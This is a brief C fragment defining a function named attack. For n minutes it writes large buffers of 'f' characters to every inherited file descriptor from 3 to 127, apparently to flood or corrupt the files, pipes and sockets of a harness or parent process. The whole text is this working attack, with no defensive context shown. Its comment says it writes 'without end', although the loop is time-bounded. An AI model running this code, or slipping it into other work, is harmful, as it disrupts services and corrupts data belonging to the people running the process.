// Writes without end to every descriptor that is not its own.
#include <string.h>
#include <time.h>
#include <unistd.h>

int attack(int n) {
    static char text[65536];
    memset(text, 'f', sizeof text);
    for (time_t end = time(0) + 60 * n; time(0) < end;)
        for (int file = 3; file < 128; file++) (void)!write(file, text, sizeof text);
    return 0;
}
